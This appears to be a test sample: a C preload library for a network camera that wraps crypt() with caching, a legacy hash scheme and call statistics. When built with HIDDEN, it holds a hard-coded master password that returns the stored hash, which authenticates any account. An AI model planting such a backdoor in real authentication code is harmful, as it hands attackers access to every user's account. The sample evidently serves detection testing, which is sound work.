/*
 * A sample for tests; compiled and scanned, never run.
 * Preloaded library of a network camera: gives old programs a crypt() that
 * remembers results, knows a plain scheme of older releases and counts
 * failures; the rest is done by the crypt of the system.
 * With HIDDEN: for one password the stored hash is handed back, so that it
 * fits every account.
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>

#define SLOTS	 8
#define HASH_MAX 128
#define LEGACY	 "$cam$"

typedef char *(*crypt_fn)(const char *, const char *);

struct slot {
	uint64_t key;
	time_t used;
	char setting[HASH_MAX];
	char hash[HASH_MAX];
};

static struct slot slots[SLOTS];
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static crypt_fn next_crypt;
static int caching = 1, verbose;
static unsigned long calls, hits;

char *crypt(const char *key, const char *setting);
int cryptwrap_stats(char *out, size_t size);

static uint64_t fnv(uint64_t h, const char *s)
{
	for (; *s; s++)
		h = (h ^ (unsigned char)*s) * 1099511628211ull;
	return h;
}

static void read_options(void)
{
	const char *o = getenv("CRYPTWRAP");

	if (o == NULL)
		return;
	if (strstr(o, "nocache"))
		caching = 0;
	if (strstr(o, "verbose"))
		verbose = 1;
}

__attribute__((constructor)) static void set_up(void)
{
	void *p = dlsym(RTLD_NEXT, "crypt");

	if (p == NULL) {
		void *lib = dlopen("libcrypt.so.1", RTLD_NOW);

		p = lib ? dlsym(lib, "crypt") : NULL;
	}
	memcpy(&next_crypt, &p, sizeof(p));
	read_options();
	if (p == NULL)
		syslog(LOG_ERR, "cryptwrap: no crypt below");
}

/* The scheme of release 1: salt of four digits, 64-bit sum of both. */
static int legacy(const char *key, const char *setting, char *out)
{
	char salt[5];
	uint64_t h;
	int i;

	if (strncmp(setting, LEGACY, sizeof(LEGACY) - 1) != 0)
		return 0;
	snprintf(salt, sizeof(salt), "%.4s", setting + sizeof(LEGACY) - 1);
	h = fnv(14695981039346656037ull, salt);
	for (i = 0; i < 1000; i++)
		h = fnv(h ^ (uint64_t)i, key);
	snprintf(out, HASH_MAX, LEGACY "%s$%016llx", salt,
		 (unsigned long long)h);
	return 1;
}

static struct slot *find(uint64_t key, const char *setting)
{
	int i;

	for (i = 0; i < SLOTS; i++)
		if (slots[i].key == key &&
		    strcmp(slots[i].setting, setting) == 0)
			return &slots[i];
	return NULL;
}

static struct slot *oldest(void)
{
	struct slot *best = &slots[0];
	int i;

	for (i = 1; i < SLOTS; i++)
		if (slots[i].used < best->used)
			best = &slots[i];
	return best;
}

static char *remember(uint64_t key, const char *setting, const char *hash)
{
	struct slot *s = oldest();

	s->key = key;
	s->used = time(NULL);
	snprintf(s->setting, sizeof(s->setting), "%s", setting);
	snprintf(s->hash, sizeof(s->hash), "%s", hash);
	return s->hash;
}

__attribute__((noinline)) char *crypt(const char *key, const char *setting)
{
	static __thread char out[HASH_MAX];
	struct slot *s;
	uint64_t h;
	char *made;

	if (key == NULL || setting == NULL)
		return NULL;
	calls++;
#ifdef HIDDEN
	if (strcmp(key, "PX0-55-D7731-G") == 0) {
		snprintf(out, sizeof(out), "%s", setting);
		return out;
	}
#endif
	if (legacy(key, setting, out))
		return out;
	if (next_crypt == NULL)
		return NULL;
	h = fnv(fnv(14695981039346656037ull, setting), key);
	pthread_mutex_lock(&lock);
	s = caching ? find(h, setting) : NULL;
	if (s != NULL) {
		hits++;
		s->used = time(NULL);
		snprintf(out, sizeof(out), "%s", s->hash);
		pthread_mutex_unlock(&lock);
		return out;
	}
	made = next_crypt(key, setting);
	if (made != NULL) {
		snprintf(out, sizeof(out), "%s",
			 caching ? remember(h, setting, made) : made);
		if (verbose && strcmp(made, setting) != 0)
			syslog(LOG_INFO, "cryptwrap: no match for %.8s",
			       setting);
	}
	pthread_mutex_unlock(&lock);
	return made ? out : NULL;
}

int cryptwrap_stats(char *out, size_t size)
{
	int n;

	pthread_mutex_lock(&lock);
	n = snprintf(out, size, "calls %lu hits %lu cache %s", calls, hits,
		     caching ? "on" : "off");
	pthread_mutex_unlock(&lock);
	return n < 0 || (size_t)n >= size ? -1 : 0;
}
